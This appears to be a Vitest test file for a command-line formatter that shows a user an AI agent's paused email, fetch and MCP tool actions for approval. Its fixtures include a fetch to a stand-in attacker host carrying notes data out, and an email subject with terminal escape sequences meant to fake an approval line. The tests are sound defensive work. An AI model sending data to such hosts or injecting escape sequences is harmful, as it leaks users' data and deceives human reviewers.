import { describe, expect, it } from 'vitest';
import { formatApproval } from '../../../local/cli/format-approval.ts';
import { emailPreview, fetchApproval, sendApproval } from './support/paused-turn.ts';

describe('formatApproval', () => {
  describe('when a mail waits', () => {
    it('shows why, the recipients, the subject and the body, and when it expires', () => {
      expect(formatApproval(sendApproval, { color: false })).toEqual([
        '⏸ gmail_send_email waits for your approval',
        '  `bob@example.com` does not appear in anything you wrote.',
        '  to        bob@example.com',
        '  cc        carol@example.com',
        '  subject   Meeting notes',
        '  body',
        '    Hi Bob,',
        '',
        '    Here are the notes.',
        '  expires 2026-11-27T12:00:00.000Z',
      ]);
    });

    it('shows bcc, says when there is an HTML version, and cuts a long body', () => {
      const body = Array.from({ length: 20 }, (_, index) => `line ${index + 1}`).join('\r\n');
      const lines = formatApproval(
        {
          ...sendApproval,
          preview: { ...emailPreview, bcc: ['eve@example.com'], hasHtml: true, body },
        },
        { color: false },
      );

      expect(lines).toContain('  bcc       eve@example.com');
      expect(lines).toContain('    line 12');
      expect(lines).not.toContain('    line 13');
      expect(lines).toContain('    … 8 more lines');
      expect(lines).toContain('  (the mail also has an HTML version)');
    });

    it('prints control characters of the text as escapes, so they cannot drive the terminal', () => {
      const lines = formatApproval(
        {
          ...sendApproval,
          preview: { ...emailPreview, subject: 'Hi\u001b[2J\u001b[1Aapproved' },
        },
        { color: false },
      );

      expect(lines).toContain('  subject   Hi\\x1b[2J\\x1b[1Aapproved');
      expect(lines.join('\n')).not.toContain('\u001b');
    });
  });

  describe('when a fetch waits', () => {
    it('lists the URLs', () => {
      expect(formatApproval(fetchApproval, { color: false }).slice(2, 4)).toEqual([
        '  fetches',
        '    https://evil.example/collect?data=notes',
      ]);
    });
  });

  describe('when an MCP tool waits', () => {
    it('shows its server, tool and arguments', () => {
      const lines = formatApproval({
        ...fetchApproval,
        tool: 'files__delete_file',
        preview: { kind: 'tool', server: 'files', tool: 'delete_file', arguments: { path: '/notes.md' } },
      }, { color: false });

      expect(lines.slice(2, -1)).toEqual([
        '  server    files',
        '  tool      delete_file',
        '  arguments',
        '    {',
        '      "path": "/notes.md"',
        '    }',
      ]);
    });
  });

  describe('when colour is on', () => {
    it('marks the pause in the warning colour', () => {
      expect(formatApproval(sendApproval, { color: true })[0]).toContain('\u001b[33mwaits for your approval\u001b[39m');
    });
  });
});
